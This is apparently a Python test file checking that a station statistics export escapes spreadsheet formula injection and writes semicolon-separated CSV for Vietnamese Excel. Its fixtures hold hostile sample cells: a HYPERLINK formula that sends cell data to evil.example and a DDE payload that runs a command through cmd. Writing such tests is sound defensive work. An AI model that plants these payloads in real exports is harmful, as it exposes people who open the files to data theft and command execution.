"""What stations and people typed never runs as a spreadsheet formula, and the CSV comes in the
dialect Excel set to Vietnamese splits into columns."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from station.stats import Grouping, stats_report
from station.stats.export import (
    CsvDialect,
    TableKind,
    as_text_cell,
    overview,
    write_csv,
    write_xlsx,
)
from station.upload_facts import QueueBacklog
from tests.station.stats.scenario import FACTS, S1, local
from tests.station.stats.test_export import NOVEMBER, WORDING

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'


def _poisoned():
    queue = QueueBacklog(1, FORMULA, local("2026-11-03 14:30"), 0, 1, 0, 0, None)
    reports = [stats_report(FACTS, NOVEMBER, by, queue) for by in
               (Grouping.STATION, Grouping.CLERK, Grouping.DAY)]  # fmt: skip
    names = {TableKind.STATIONS: {S1: "+cmd|' /C calc'!A0"}, TableKind.CLERKS: {"lan": "@SUM(1)"}}
    return overview(*reports, names)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_starts_are_written_as_text(text) -> None:
    assert as_text_cell(text) == "'" + text
    assert as_text_cell(-1.5) == -1.5 and as_text_cell("Nguyễn") == "Nguyễn"


def test_no_cell_of_the_csv_starts_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    write_csv(path, _poisoned(), WORDING)
    cells = [c for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row]
    assert "'" + FORMULA in cells
    assert not [
        c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-") and not _number(c)
    ]


def test_no_cell_of_the_workbook_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_xlsx(path, _poisoned(), WORDING)
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]


def test_the_vietnamese_excel_dialect_splits_on_semicolons_with_comma_decimals(tmp_path) -> None:
    path = tmp_path / "report.csv"
    write_csv(path, _poisoned(), WORDING, CsvDialect.EXCEL_VI)
    rows = list(csv.reader(path.open(encoding="utf-8-sig"), delimiter=";"))
    stations = rows[rows.index(["Theo trạm"]) + 2]
    assert stations[0] == "'+cmd|' /C calc'!A0"
    assert "2,33" in stations and not [c for c in stations if "." in c and _number(c)]


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True
